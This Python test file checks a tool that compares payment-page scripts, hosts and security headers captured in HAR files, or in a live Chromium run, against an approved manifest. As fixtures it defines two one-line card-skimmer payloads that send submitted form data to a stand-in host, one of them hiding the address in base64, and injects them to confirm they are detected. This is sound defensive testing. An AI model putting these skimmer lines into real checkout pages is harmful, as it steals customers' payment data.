"""Scripts, hosts and headers of pages as a browser received them, held against what was approved."""

from __future__ import annotations

import base64
import importlib.util
import json
import os
import shutil
import threading
from collections.abc import Iterator, Mapping
from contextlib import contextmanager
from datetime import UTC, datetime
from functools import partial
from http.server import SimpleHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

import pytest

from waybill.exposure import FAMILIES, Survey, survey
from waybill.exposure.deployed import read
from waybill.exposure.deployed.approving import approve
from waybill.exposure.deployed.manifest import Manifest
from waybill.exposure.deployed.pages import Page
from waybill.model.errors import InputError
from waybill.model.register import Place, RegisterSnapshot

PAY = "https://shop.example/pay"
OWN = "https://shop.example/static/pay.js"
MAKER = "https://cdn.maker.example/form.js"
CODE = 'document.querySelector("input").addEventListener("change", check);'
SKIMMER = 'addEventListener("submit", e => fetch("https://drop.stranger.example/c", {body: new FormData(e.target)}));'
HIDDEN = f'addEventListener("submit", () => navigator.sendBeacon(atob("{base64.b64encode(b"https://drop.stranger.example/c").decode()}")));'
POLICY = {"Content-Security-Policy": "script-src 'self' https://cdn.maker.example", "Server": "x"}


def entry(url: str, kind: str, text: str | None, headers: dict[str, str] | None = None) -> dict[str, Any]:
    content: dict[str, Any] = {"mimeType": kind, **({} if text is None else {"text": text})}
    return {
        "request": {"url": url, "method": "GET"},
        "response": {
            "status": 200,
            "headers": [{"name": name, "value": value} for name, value in (headers or {}).items()],
            "content": content,
        },
    }


def har(tmp_path: Path, *, scripts: Mapping[str, str | None], inline: str = "", headers: Any = None) -> Path:
    tags = "".join(f'<script src="{url}"></script>' for url in scripts if url.startswith("https://shop"))
    tags += "".join(
        f'<script src="{url}" integrity="sha384-x" crossorigin></script>' for url in scripts if "cdn." in url
    )
    page = f"<html><head>{tags}<script>{inline}</script></head></html>" if inline else f"<html>{tags}</html>"
    found = [entry(f"{PAY}?session=1", "text/html", page, POLICY if headers is None else headers)]
    found += [entry(f"{url}?v=2", "application/javascript", text) for url, text in scripts.items()]
    file = tmp_path / "pay.har"
    file.write_text(json.dumps({"log": {"entries": found}}))
    return file


@pytest.fixture
def approved(tmp_path: Path) -> Manifest:
    file = har(tmp_path, scripts={OWN: CODE, MAKER: "form()"}, inline="start()")
    pages = [one for one in read(str(file)) if isinstance(one, Page)]
    empty = tmp_path / "build"
    empty.mkdir()
    return Manifest(approve(empty, pages=pages, reasons={"*": "payment"}).statement, frozenset({"x"}))


def look(file: Path, manifest: Manifest | None, register: RegisterSnapshot | None = None) -> Survey:
    checks = FAMILIES["deployed"].checks()
    return survey(read(str(file), manifest), checks, register or RegisterSnapshot(), datetime(2026, 3, 1, tzinfo=UTC))


def seen(found: Survey) -> dict[str, set[str]]:
    told: dict[str, set[str]] = {}
    for key in found.open[PAY]:
        check, _, thing = key.partition(" ")
        told.setdefault(check.removeprefix("deployed-page-"), set()).add(thing)
    return told


def test_silent_as_approved(approved: Manifest, tmp_path: Path) -> None:
    found = look(har(tmp_path, scripts={OWN: CODE, MAKER: "form()"}, inline="start()"), approved)
    assert (found.findings, found.gaps) == ([], [])


@pytest.mark.parametrize("implant", [SKIMMER, HIDDEN])
def test_a_skimmer_in_an_approved_script(approved: Manifest, tmp_path: Path, implant: str) -> None:
    file = har(tmp_path, scripts={OWN: CODE + implant, MAKER: "form()"}, inline="start()")
    assert seen(look(file, approved)) == {
        "skimmer": {f"{OWN} drop.stranger.example"},
        "script-changed": {OWN},
    }
    partner = RegisterSnapshot(places=(Place(id="p", patterns=(".stranger.example",), approved_egress=True),))
    assert "skimmer" not in seen(look(file, approved, partner))


def test_a_release_of_the_maker_is_no_skimmer(approved: Manifest, tmp_path: Path) -> None:
    text = 'form(2); fetch("https://cdn.maker.example/fields")'
    file = har(tmp_path, scripts={OWN: CODE, MAKER: text}, inline="start()")
    assert seen(look(file, approved)) == {"script-changed": {MAKER}}


def test_scripts_that_came_later(approved: Manifest, tmp_path: Path) -> None:
    more = {OWN: CODE, MAKER: "form()", "https://x.stranger.example/t.js": "count()"}
    found = seen(look(har(tmp_path, scripts=more, inline="start(); more()"), approved))
    assert "https://x.stranger.example/t.js" in found["script"]
    assert any(one.startswith("inline ") for one in found["script"])
    assert found["integrity"] == {"https://x.stranger.example/t.js"}


def test_headers(approved: Manifest, tmp_path: Path) -> None:
    scripts: dict[str, str | None] = {OWN: CODE, MAKER: "form()"}
    assert seen(look(har(tmp_path, scripts=scripts, inline="start()", headers={}), approved)) == {
        "headers": {"no policy", "content-security-policy"}
    }
    wider = {**POLICY, "Content-Security-Policy": "script-src *", "Server": "y"}
    assert seen(look(har(tmp_path, scripts=scripts, inline="start()", headers=wider), approved)) == {
        "headers": {"content-security-policy"}
    }


def test_reasons(tmp_path: Path) -> None:
    file = har(tmp_path, scripts={OWN: CODE})
    pages = [one for one in read(str(file)) if isinstance(one, Page)]
    (tmp_path / "build").mkdir()
    manifest = Manifest(approve(tmp_path / "build", pages=pages).statement, frozenset({"x"}))
    assert seen(look(file, manifest)) == {"reason": {OWN}}


def test_what_a_har_does_not_hold_is_said(approved: Manifest, tmp_path: Path) -> None:
    found = look(har(tmp_path, scripts={OWN: None, MAKER: "form()"}, inline="start()"), approved)
    assert [gap.why for gap in found.gaps] == ["the HAR holds no content of this script"]
    found = look(har(tmp_path, scripts={OWN: CODE}), None)
    assert all("no manifest" in gap.why for gap in found.gaps) and found.gaps
    (tmp_path / "x.har").write_text("[]")
    with pytest.raises(InputError, match="no HAR"):
        look(tmp_path / "x.har", None)


# In a real browser --------------------------------------------------------------------------------------------------

CHROMIUM = os.environ.get("WAYBILL_CHROMIUM") or shutil.which("chromium") or shutil.which("chromium-browser")


@contextmanager
def serving(folder: Path) -> Iterator[str]:
    class Quiet(SimpleHTTPRequestHandler):
        def log_message(self, *_: Any) -> None:
            """Say nothing."""

    with ThreadingHTTPServer(("127.0.0.1", 0), partial(Quiet, directory=str(folder))) as server:
        threading.Thread(target=server.serve_forever, daemon=True).start()
        yield f"http://127.0.0.1:{server.server_port}/"
        server.shutdown()


@pytest.mark.skipif(
    CHROMIUM is None or importlib.util.find_spec("playwright") is None, reason="no Chromium or no playwright here"
)
def test_in_a_browser(tmp_path: Path) -> None:
    site, build = tmp_path / "site", tmp_path / "build"
    site.mkdir()
    build.mkdir()
    (site / "index.html").write_text('<!doctype html><script src="a.js"></script><script>one()</script>')
    (site / "a.js").write_text(
        'function one() {}; document.head.append(Object.assign(document.createElement("script"), {src: "b.js"}))'
    )
    (site / "b.js").write_text("var b = 1")
    with serving(site) as address:
        (page,) = [one for one in read(address) if isinstance(one, Page)]
        assert {script.source.removeprefix(address) for script in page.scripts} == {"inline", "a.js", "b.js"}
        manifest = Manifest(approve(build, pages=[page], reasons={"*": "test"}).statement, frozenset({"x"}))
        (site / "b.js").write_text(SKIMMER)
        found = survey(read(address, manifest), FAMILIES["deployed"].checks(), RegisterSnapshot(), datetime.now(UTC))
    rules = {one.rule_id for one in found.findings}
    assert rules == {"deployed-page-skimmer", "deployed-page-script-changed", "deployed-page-headers"}
